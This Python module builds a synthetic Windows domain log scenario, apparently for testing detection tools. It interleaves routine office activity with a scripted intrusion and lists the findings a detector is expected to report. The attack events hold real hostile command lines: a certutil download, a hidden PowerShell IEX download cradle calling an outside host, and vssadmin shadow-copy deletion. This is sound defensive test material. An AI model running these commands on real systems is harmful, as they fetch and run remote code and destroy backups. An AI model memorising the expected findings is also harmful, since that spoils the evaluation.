"""Write Windows events as Winlogbeat ships them: spraying, a new administrator, a cleared log — and routine."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta

from pcaps.scenarios.scenario import LogFile, LogScenario

DOMAIN = "SHIYAN"
CONTROLLER = "DC01.shiyan.example"
OFFICE = "JWC-PC07.shiyan.example"
OTHER = "JWC-PC02.shiyan.example"
SPRAYER = "192.168.20.99"
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
PEOPLE = (
    "zhangmin", "lijuan", "wangqiang", "liuyang", "chenjing", "yanglei", "huangying", "zhoutao", "wuxia", "xuhui",
    "sunli", "mafei", "zhulin", "hujun", "guoyan", "heping",
)  # fmt: skip
SYSTEM32 = "C:\\Windows\\System32\\"


class _Beats:
    """Collect events at their instants."""

    def __init__(self, rng: random.Random, start: datetime) -> None:
        self.rng, self.start, self.number = rng, start, 88_000
        self.events: list[tuple[datetime, dict[str, object]]] = []

    def add(
        self,
        seconds: float,
        computer: str,
        channel: tuple[str, str],
        code: int,
        data: dict[str, str],
        *,
        keywords: str = "",
    ) -> None:
        """Add one event."""
        moment = self.start + timedelta(seconds=seconds)
        self.number += 1
        winlog: dict[str, object] = {
            "channel": channel[0],
            "provider_name": channel[1],
            "computer_name": computer,
            "event_id": str(code),
            "record_id": self.number,
            "api": "wineventlog",
            "event_data": data,
        }
        if keywords:
            winlog["keywords"] = [keywords]
        stamp = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1_000:03d}Z"
        event: dict[str, object] = {
            "@timestamp": stamp,
            "agent": {"type": "winlogbeat", "version": "8.15.0"},
            "event": {"code": str(code), "kind": "event", "provider": channel[1]},
            "host": {"name": computer},
            "log": {"level": "information"},
            "winlog": winlog,
        }
        self.events.append((moment, event))

    def logon(
        self, seconds: float, computer: str, user: str, source: str, kind: int, *, refused: bool = False
    ) -> None:
        """Add a log-in: 4624, or 4625 when refused."""
        data = {
            "SubjectUserName": "-",
            "TargetUserName": user,
            "TargetDomainName": DOMAIN,
            "LogonType": str(kind),
            "IpAddress": source,
            "IpPort": str(self.rng.randrange(49_152, 65_535)),
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "-",
        }
        if refused:
            data |= {"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"}
        words = "Audit Failure" if refused else "Audit Success"
        self.add(seconds, computer, SECURITY, 4625 if refused else 4624, data, keywords=words)

    def process(
        self, seconds: float, computer: str, user: str, image: str, line: str, *, parent: str = "explorer.exe"
    ) -> None:
        """Add a started program as Security 4688 says it."""
        data = {
            "SubjectUserName": user,
            "SubjectDomainName": DOMAIN,
            "NewProcessId": hex(self.rng.randrange(0x400, 0x4000)),
            "NewProcessName": image,
            "CommandLine": line,
            "ProcessId": "0x9d4",
            "ParentProcessName": "C:\\Windows\\" + parent,
            "TokenElevationType": "%%1938",
        }
        self.add(seconds, computer, SECURITY, 4688, data, keywords="Audit Success")

    def sysmon_process(self, seconds: float, computer: str, user: str, image: str, line: str) -> None:
        """Add a started program as Sysmon says it."""
        data = {
            "UtcTime": "-",
            "ProcessId": str(self.rng.randrange(1_000, 9_000)),
            "Image": image,
            "CommandLine": line,
            "User": f"{DOMAIN}\\{user}",
            "Hashes": "SHA256=" + self.rng.randbytes(32).hex().upper(),
            "ParentImage": SYSTEM32 + "cmd.exe",
            "ParentCommandLine": "cmd.exe",
            "CurrentDirectory": "C:\\Users\\Public\\",
        }
        self.add(seconds, computer, SYSMON, 1, data)


def _routine(beats: _Beats) -> None:
    """Add a working day: log-ins, office programs, an administrator's script, a service, mistyped passwords."""
    rng = beats.rng
    for number, user in enumerate(PEOPLE):
        at, source = 300 + number * 140, f"192.168.20.{41 + number}"
        beats.logon(at, CONTROLLER, user, source, 3)
        if number % 5 == 0:
            beats.logon(at - 20, CONTROLLER, user, source, 3, refused=True)
        for turn in range(8):
            beats.logon(at + 900 + turn * 1_100 + rng.uniform(0, 300), CONTROLLER, user, source, 3)
    for number in range(60):
        computer = (OFFICE, OTHER)[number % 2]
        program = rng.choice(
            ("Microsoft Office\\WINWORD.EXE", "Kingsoft\\WPS Office\\wps.exe", "Edge\\msedge.exe")
        )
        image = f"C:\\Program Files\\{program}"
        user = ("zhoutao", "lijuan")[number % 2]
        beats.process(rng.uniform(500, 12_000), computer, user, image, f'"{image}"')
        beats.sysmon_process(
            rng.uniform(500, 12_000), computer, user, SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs -p"
        )
    script = "Get-ADUser -Filter * | Export-Csv D:\\report\\users.csv"
    beats.add(
        4_000,
        CONTROLLER,
        POWERSHELL,
        4104,
        {
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": script,
            "Path": "D:\\report\\users.ps1",
        },
    )
    service = {"param1": "Windows Update", "param2": "running"}
    beats.add(2_000, OFFICE, ("System", "Service Control Manager"), 7036, service)


def _attack(beats: _Beats) -> None:
    """Add the attack: spraying at eleven, one password fits, then the office PC is taken over."""
    at = 10_800.0
    for turn in range(2):
        for number, user in enumerate(PEOPLE):
            beats.logon(at + turn * 200 + number * 6, CONTROLLER, user, SPRAYER, 3, refused=True)
    beats.logon(at + 420, CONTROLLER, "zhoutao", SPRAYER, 3)
    beats.logon(at + 460, OFFICE, "zhoutao", SPRAYER, 10)
    fetch = "certutil.exe -urlcache -split -f http://198.51.100.88/kb.txt C:\\Users\\Public\\kb.exe"
    beats.process(at + 520, OFFICE, "zhoutao", SYSTEM32 + "certutil.exe", fetch, parent="System32\\cmd.exe")
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.88/a.ps1')"
    beats.add(
        at + 560,
        OFFICE,
        POWERSHELL,
        4104,
        {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": cradle, "Path": ""},
    )
    shell = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    beats.process(
        at + 559,
        OFFICE,
        "zhoutao",
        shell,
        f'powershell.exe -nop -w hidden -c "{cradle}"',
        parent="System32\\cmd.exe",
    )
    who = {"SubjectUserName": "zhoutao", "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x5f1a2"}
    beats.add(
        at + 640,
        OFFICE,
        SECURITY,
        4720,
        who | {"TargetUserName": "helpdesk$1", "TargetDomainName": "JWC-PC07"},
        keywords="Audit Success",
    )
    group = {"TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
             "MemberName": "-", "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1013"}  # fmt: skip
    beats.add(at + 644, OFFICE, SECURITY, 4732, who | group, keywords="Audit Success")
    shadows = "vssadmin.exe delete shadows /all /quiet"
    beats.sysmon_process(at + 900, OFFICE, "zhoutao", SYSTEM32 + "vssadmin.exe", shadows)
    cleared = {
        "SubjectUserName": "zhoutao",
        "SubjectDomainName": DOMAIN,
        "SubjectUserSid": "S-1-5-21-1-1-1-1107",
    }
    beats.add(at + 960, OFFICE, ("Security", "Microsoft-Windows-Eventlog"), 1102, cleared)


def build(rng: random.Random, start: datetime) -> list[LogFile]:
    """Return the log."""
    beats = _Beats(rng, start)
    _routine(beats)
    _attack(beats)
    events = [event for _, event in sorted(beats.events, key=lambda item: item[0])]
    text = "".join(json.dumps(event, separators=(",", ":"), ensure_ascii=False) + "\n" for event in events)
    return [LogFile("winlogbeat.ndjson", text.encode(), len(events))]


SCENARIO = LogScenario(
    name="windows_domain",
    hour=8,
    hours=4,
    zh="Windows 域日志：口令喷洒、新增管理员、删除还原副本、清空日志",
    en="Windows domain events: spraying, a new administrator, deleted shadow copies, a cleared log",
    build=build,
    addresses={
        CONTROLLER: ("域控制器", "the domain controller"),
        OFFICE: ("被控制的办公电脑", "the office PC taken over"),
        OTHER: ("正常办公电脑", "an ordinary office PC"),
        SPRAYER: ("喷洒口令的设备", "the spraying device"),
    },
    must_find=(
        ("password_spraying", SPRAYER, "medium"),
        ("lolbin_abuse", OFFICE, "high"),
        ("powershell_abuse", OFFICE, "high"),
        ("new_administrator", OFFICE, "medium"),
        ("ransomware", OFFICE, "critical"),
        ("log_cleared", OFFICE, "high"),
    ),
    must_not=({"min_severity": "medium", "entity": OTHER},),
)
